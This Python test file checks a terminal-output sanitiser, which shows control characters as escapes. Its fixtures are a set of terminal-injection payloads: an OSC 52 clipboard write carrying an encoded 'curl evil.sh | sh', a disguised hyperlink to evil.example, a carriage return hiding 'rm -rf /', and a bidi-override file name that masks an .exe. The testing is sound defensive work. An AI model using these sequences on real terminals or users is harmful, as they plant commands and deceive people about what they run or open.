"""``core.text.visible``: the one terminal sanitiser. Every non-printable character is shown
as its escape; printable text (any script, emoji, backslashes) is left as it is."""

from __future__ import annotations

import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from garrison.core.text import visible, visible_lines

# The sequences an attacker puts into a log field, a rule title or a file name.
ATTACKS = {
    "clear screen": "\x1b[2J\x1b[H",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "OSC 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "CR overwrite": "rm -rf /\rls -la   ",
    "bidi override": "invoice\u202egpj.exe",
    "C1 CSI": "\x9b31mred",
    "NUL and DEL": "a\x00b\x7fc",
    "line separator": "one\u2028two",
}


def _raw_controls(text: str) -> list[str]:
    """Characters a terminal may act on: C0 (but newline), DEL, C1, and format characters
    (bidi overrides, isolates, zero-width), line/paragraph separators, surrogates."""
    return [
        ch
        for ch in text
        if ch != "\n" and unicodedata.category(ch) in {"Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"}
    ]


def test_each_attack_is_shown_not_obeyed():
    for name, payload in ATTACKS.items():
        shown = visible(payload)
        assert _raw_controls(shown) == [], name
        assert "\x1b" not in shown and "\r" not in shown, name
    assert visible(ATTACKS["clear screen"]) == "\\x1b[2J\\x1b[H"
    assert visible(ATTACKS["bidi override"]) == "invoice\\u202egpj.exe"
    assert visible(ATTACKS["C1 CSI"]) == "\\x9b31mred"
    assert visible(ATTACKS["CR overwrite"]).startswith("rm -rf /\\rls")


def test_printable_text_is_unchanged():
    for text in ("plain", "Ünïcødé ✓ 日本語 🙂", "C:\\Windows\\x1b literal", "  spaced  "):
        assert visible(text) == text


def test_width_cuts_the_shown_text_and_non_strings_are_shown_too():
    assert visible("\x1b[2J", 4) == "\\x1b"
    assert visible(12345) == "12345"
    assert visible(None) == "None"


def test_undecodable_file_name_bytes_are_shown():
    name = b"report\xff\x1b.log".decode("utf-8", "surrogateescape")
    assert visible(name) == "report\\udcff\\x1b.log"
    assert visible(name).encode("utf-8")  # printable: encodes without surrogate errors


def test_visible_lines_keeps_only_newlines():
    assert visible_lines("a\x1b[2J\nb\rc") == "a\\x1b[2J\nb\\rc"


@given(st.text())
def test_property_no_raw_control_survives(text):
    assert _raw_controls(visible(text)) == []
    assert "\n" not in visible(text)
    assert _raw_controls(visible_lines(text)) == []
    assert visible_lines(text).count("\n") == text.count("\n")


@given(st.text(alphabet=st.characters(categories=("L", "M", "N", "P", "S", "Zs"))))
def test_property_printable_text_passes_unchanged(text):
    if text.isprintable():
        assert visible(text) == text
